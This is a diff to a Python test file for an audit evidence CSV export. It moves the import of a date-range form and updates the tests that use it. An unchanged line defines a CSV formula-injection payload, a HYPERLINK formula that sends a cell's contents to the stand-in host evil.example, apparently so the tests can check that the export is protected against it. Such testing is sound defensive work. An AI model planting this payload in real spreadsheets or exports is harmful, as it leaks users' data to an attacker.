@@ -21,6 +21,7 @@ from cmdb.models import ConfigurationItem
 from changes.services import rfc_create, rfc_transition
 from releasemgmt.workflow import TransitionError
 from audit import export as ax
+from audit.forms import EvidenceRangeForm
 from releases import services as s
 from releases.models import (
     CabVote,
@@ -41,7 +42,7 @@ INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 def export(start=None, end=None) -> list[dict]:
     """The export parsed back as an auditor's tool would read it."""
     today = timezone.now().date()
-    form = ax.EvidenceRangeForm({"from": str(start or today - timedelta(days=1)), "to": str(end or today)})
+    form = EvidenceRangeForm({"from": str(start or today - timedelta(days=1)), "to": str(end or today)})
     assert form.is_valid(), form.errors
     text = "".join(ax.evidence_csv(*form.bounds()))
     assert text.startswith(ax.BOM)
@@ -270,12 +271,12 @@ def test_the_range_selects_releases_by_creation_or_activity_and_keeps_their_whol
     ({"from": "2026-03-02", "to": "2026-03-01"}, "to"), ({"from": "2020-01-01", "to": "2025-01-04"}, "to"),
 ])
 def test_bad_ranges_are_refused_with_the_reason(data, field):
-    form = ax.EvidenceRangeForm(data)
+    form = EvidenceRangeForm(data)
     assert not form.is_valid() and field in form.errors
 
 
 def test_the_last_representable_day_is_a_valid_range():
-    form = ax.EvidenceRangeForm({"from": "9999-12-01", "to": "9999-12-31"})
+    form = EvidenceRangeForm({"from": "9999-12-01", "to": "9999-12-31"})
     assert form.is_valid()
     start, end = form.bounds()
     assert start < end and end.year == 9999
@@ -306,7 +307,7 @@ def test_the_query_count_does_not_grow_with_the_number_of_releases(actors, cis):
 
 
 def ax_bounds(day):
-    form = ax.EvidenceRangeForm({"from": str(day - timedelta(days=1)), "to": str(day)})
+    form = EvidenceRangeForm({"from": str(day - timedelta(days=1)), "to": str(day)})
     assert form.is_valid()
     return form.bounds()
 
@@ -372,7 +373,7 @@ def test_the_page_downloads_the_csv(client, world, actors):
 
 
 def ax_bounds_day(day):
-    form = ax.EvidenceRangeForm({"from": str(day), "to": str(day)})
+    form = EvidenceRangeForm({"from": str(day), "to": str(day)})
     assert form.is_valid()
     return form.bounds()
 
